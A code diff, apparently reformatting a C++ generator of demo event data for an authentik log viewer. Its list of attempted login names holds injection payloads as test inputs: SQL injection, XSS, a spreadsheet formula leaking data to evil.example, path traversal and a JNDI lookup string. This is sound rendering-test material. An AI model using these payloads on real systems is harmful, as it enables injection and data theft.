@@ -30,14 +30,16 @@ std::vector<ActionInfo> allActions(DemoRelease release)
         {"secret_view", "Secret View", "authentik.core.api.tokens", R::V2024_8, 30},
         {"secret_rotate", "Secret Rotate", "authentik.core.models", R::V2024_8, 12},
         {"invitation_used", "Invite Used", "authentik.events.signals", R::V2024_8, 8},
-        {"authorize_application", "Authorize Application", "authentik.providers.oauth2.views.authorize", R::V2024_8, 900},
+        {"authorize_application", "Authorize Application", "authentik.providers.oauth2.views.authorize", R::V2024_8,
+            900},
         {"source_linked", "Source Linked", "authentik.core.sources.flow_manager", R::V2024_8, 10},
         {"impersonation_started", "Impersonation Started", "authentik.core.api.users", R::V2024_8, 8},
         {"impersonation_ended", "Impersonation Ended", "authentik.core.api.users", R::V2024_8, 8},
         {"flow_execution", "Flow Execution", "authentik.flows.planner", R::V2024_8, 6},
         {"policy_execution", "Policy Execution", "authentik.policies.process", R::V2024_8, 60},
         {"policy_exception", "Policy Exception", "authentik.policies.process", R::V2024_8, 20},
-        {"property_mapping_exception", "Property Mapping Exception", "authentik.core.expression.evaluator", R::V2024_8, 12},
+        {"property_mapping_exception", "Property Mapping Exception", "authentik.core.expression.evaluator", R::V2024_8,
+            12},
         {"system_task_execution", "System Task Execution", "authentik.tasks.middleware", R::V2024_8, 10},
         {"system_task_exception", "System Task Exception", "authentik.tasks.middleware", R::V2024_8, 14},
         {"system_exception", "System Exception", "authentik.events.middleware", R::V2024_8, 10},
@@ -89,7 +91,8 @@ std::vector<std::uint8_t> drawsOf(const std::vector<ActionInfo> &actions)
     return draws;
 }
 
-void addUser(std::vector<User> &users, int pk, const std::string &username, const std::string &name, const std::string &email)
+void addUser(
+    std::vector<User> &users, int pk, const std::string &username, const std::string &name, const std::string &email)
 {
     std::string json = R"({"pk":)" + std::to_string(pk) + R"(,"email":)" + jsonString(email) + R"(,"username":)"
         + jsonString(username);
@@ -109,7 +112,7 @@ struct PlaceData
     const char *network;
 };
 
-constexpr std::array<PlaceData, 24> placeData {{
+constexpr std::array<PlaceData, 24> placeData{{
     {"Berlin", "DE", "EU", "52.52", "13.405", "Example Net GmbH"},
     {"Zürich", "CH", "EU", "47.3769", "8.5417", "Beispiel AG"},
     {"", "NL", "EU", "52.37", "4.9", "Example Hosting BV"},
@@ -136,7 +139,7 @@ constexpr std::array<PlaceData, 24> placeData {{
     {"Llanfair­pwllgwyngyll", "GB", "EU", "53.2232", "-4.2008", "Example Cymru"},
 }};
 
-constexpr std::array<const char *, 3> networks {"192.0.2.", "198.51.100.", "203.0.113."};
+constexpr std::array<const char *, 3> networks{"192.0.2.", "198.51.100.", "203.0.113."};
 
 std::string subnetAddress(std::size_t place, int host)
 {
@@ -148,17 +151,17 @@ std::vector<Place> makePlaces()
     std::vector<Place> places;
     for (std::size_t at = 0; at < placeData.size(); ++at) {
         const PlaceData &data = placeData.at(at);
-        places.push_back({R"("asn":{"asn":)" + std::to_string(64496 + at % 16) + R"(,"as_org":)" + jsonString(data.network)
-                + R"(,"network":")" + subnetAddress(at, 0) + R"(/27"},"geo":{"lat":)" + data.latitude + R"(,"city":)"
-                + jsonString(data.city) + R"(,"long":)" + data.longitude + R"(,"country":")" + data.country
-                + R"(","continent":")" + data.continent + R"("},)",
+        places.push_back({R"("asn":{"asn":)" + std::to_string(64496 + at % 16) + R"(,"as_org":)"
+                + jsonString(data.network) + R"(,"network":")" + subnetAddress(at, 0) + R"(/27"},"geo":{"lat":)"
+                + data.latitude + R"(,"city":)" + jsonString(data.city) + R"(,"long":)" + data.longitude
+                + R"(,"country":")" + data.country + R"(","continent":")" + data.continent + R"("},)",
             data.country});
     }
     return places;
 }
 
-std::string modelJson(const std::string &app, const std::string &model, const std::string &name, const std::string &pk,
-    bool numeric)
+std::string modelJson(
+    const std::string &app, const std::string &model, const std::string &name, const std::string &pk, bool numeric)
 {
     return R"({"pk":)" + (numeric ? pk : jsonString(pk)) + R"(,"app":)" + jsonString(app) + R"(,"name":)"
         + jsonString(name) + R"(,"model_name":)" + jsonString(model) + "}";
@@ -177,8 +180,8 @@ std::vector<KindData> objectKinds()
 {
     return {
         {"authentik_core", "group", "core/groups", false,
-            {"authentik Admins", "authentik Read-only", "legacy-group", "Бухгалтерия", "エンジニア", "Vertrieb Süd", "hr",
-                "contractors 2024", "everyone <all@example.org>", "Équipe réseau", "vpn-users", "board"}},
+            {"authentik Admins", "authentik Read-only", "legacy-group", "Бухгалтерия", "エンジニア", "Vertrieb Süd",
+                "hr", "contractors 2024", "everyone <all@example.org>", "Équipe réseau", "vpn-users", "board"}},
         {"authentik_flows", "flow", "flows/instances", false,
             {"Welcome to authentik!", "default-invalidation-flow", "Change Password", "Default enrollment",
                 "MFA for admins", "Recovery", "Consent (implicit)", "User settings"}},
@@ -187,11 +190,13 @@ std::vector<KindData> objectKinds()
                 "password-reuse"}},
         {"authentik_stages_password", "passwordstage", "stages/password", false,
             {"default-authentication-password", "ldap-password", "strict-password"}},
-        {"authentik_brands", "brand", "core/brands", false, {"authentik-default", "example.org", "filiale.example.net"}},
+        {"authentik_brands", "brand", "core/brands", false,
+            {"authentik-default", "example.org", "filiale.example.net"}},
         {"authentik_core", "token", "core/tokens", false,
             {"ak-outpost-proxy-api", "ci-deploy", "backup-2026", "goauthentik-ha", "tidings"}},
         {"authentik_events", "notificationrule", "events/rules", false,
-            {"default-notify-configuration-error", "default-notify-exception", "default-notify-update", "failed-logins"}},
+            {"default-notify-configuration-error", "default-notify-exception", "default-notify-update",
+                "failed-logins"}},
         {"authentik_sources_ldap", "ldapsource", "sources/ldap", false, {"ad.example.org", "Legacy LDAP"}},
         {"authentik_outposts", "outpost", "outposts/instances", false,
             {"authentik Embedded Outpost", "proxy-dmz", "ldap-campus", "radius-wifi"}},
@@ -201,13 +206,32 @@ std::vector<KindData> objectKinds()
     };
 }
 
-constexpr std::array<std::array<const char *, 2>, 25> applicationData {{
-    {"Grafana", "grafana"}, {"Wiki", "wiki"}, {"Nextcloud", "nextcloud"}, {"VPN", "vpn"}, {"GitLab", "gitlab"},
-    {"Forgejo", "forgejo"}, {"Jenkins", "jenkins"}, {"Harbor", "harbor"}, {"Argo CD", "argo-cd"}, {"Proxmox", "proxmox"},
-    {"Paperless", "paperless"}, {"Home Assistant", "home-assistant"}, {"Zeiterfassung", "zeiterfassung"},
-    {"Matrix", "matrix"}, {"Mattermost", "mattermost"}, {"BookStack", "bookstack"}, {"Zulip", "zulip"},
-    {"Rocket 🚀 Launch <beta>", "rocket"}, {"経費精算", "keihi"}, {"HR & Payroll", "hr-payroll"},
-    {"Vault", "vault"}, {"MinIO", "minio"}, {"Roundcube", "roundcube"}, {"NetBox", "netbox"}, {"Portainer", "portainer"},
+constexpr std::array<std::array<const char *, 2>, 25> applicationData{{
+    {"Grafana", "grafana"},
+    {"Wiki", "wiki"},
+    {"Nextcloud", "nextcloud"},
+    {"VPN", "vpn"},
+    {"GitLab", "gitlab"},
+    {"Forgejo", "forgejo"},
+    {"Jenkins", "jenkins"},
+    {"Harbor", "harbor"},
+    {"Argo CD", "argo-cd"},
+    {"Proxmox", "proxmox"},
+    {"Paperless", "paperless"},
+    {"Home Assistant", "home-assistant"},
+    {"Zeiterfassung", "zeiterfassung"},
+    {"Matrix", "matrix"},
+    {"Mattermost", "mattermost"},
+    {"BookStack", "bookstack"},
+    {"Zulip", "zulip"},
+    {"Rocket 🚀 Launch <beta>", "rocket"},
+    {"経費精算", "keihi"},
+    {"HR & Payroll", "hr-payroll"},
+    {"Vault", "vault"},
+    {"MinIO", "minio"},
+    {"Roundcube", "roundcube"},
+    {"NetBox", "netbox"},
+    {"Portainer", "portainer"},
 }};
 
 std::vector<std::string> makeUserAgents()
@@ -215,8 +239,10 @@ std::vector<std::string> makeUserAgents()
     std::vector<std::string> agents;
     for (const char *agent : {
              "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
-             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
-             "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15",
+             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 "
+             "Safari/537.36",
+             "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 "
+             "Safari/605.1.15",
              "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
              "Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 Chrome/141.0.0.0 Mobile Safari/537.36",
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0",
@@ -242,10 +268,12 @@ std::vector<std::string> makeAttemptedNames()
     return {"root", "admin", "administrator", "test", "guest", "postgres", "oracle", "ubuntu", "pi", "info", "support",
         "akadmin ", "AKADMIN", "admin@example.org", "' OR '1'='1", "<b>admin</b>", "<img src=x onerror=alert(1)>",
         R"(=HYPERLINK("https://evil.example/?leak="&A1,"Click me"))", "+1+1", "@SUM(A1:A9)", "-2+3",
-        "admin\u202Etxt.exe", "\u2066admin\u2069", "bell\a\x1b[31mred\x1b[0m", "line\nbreak\ttab", "nul\x01" "start",
+        "admin\u202Etxt.exe", "\u2066admin\u2069", "bell\a\x1b[31mred\x1b[0m", "line\nbreak\ttab",
+        "nul\x01"
+        "start",
         "zero\u200Bwidth", "аdmin", // the first letter is Cyrillic
-        veryLong, "Ｆｕｌｌｗｉｄｔｈ", "👩‍👩‍👧‍👦", "é́́́́́", "%1 %s %n {0}", "../../etc/passwd", "${jndi:ldap://192.0.2.66/a}",
-        " ", "null", "None", "\"quoted\"", "back\\slash"};
+        veryLong, "Ｆｕｌｌｗｉｄｔｈ", "👩‍👩‍👧‍👦", "é́́́́́", "%1 %s %n {0}", "../../etc/passwd",
+        "${jndi:ldap://192.0.2.66/a}", " ", "null", "None", "\"quoted\"", "back\\slash"};
 }
 
 } // namespace
@@ -277,7 +305,8 @@ DemoTables::DemoTables(quint64 seed, DemoRelease forRelease)
     }
     firstServiceAccount = static_cast<std::uint16_t>(users.size());
     int pk = 10 + personCount;
-    for (const char *account : {"svc-backup", "svc-monitoring", "svc-ci", "ak-outpost-proxy", "ak-outpost-ldap", "svc-hr-sync"})
+    for (const char *account :
+        {"svc-backup", "svc-monitoring", "svc-ci", "ak-outpost-proxy", "ak-outpost-ldap", "svc-hr-sync"})
         addUser(users, pk++, account, "Service account "s + account, "");
 
     addresses.push_back({{}, -1});
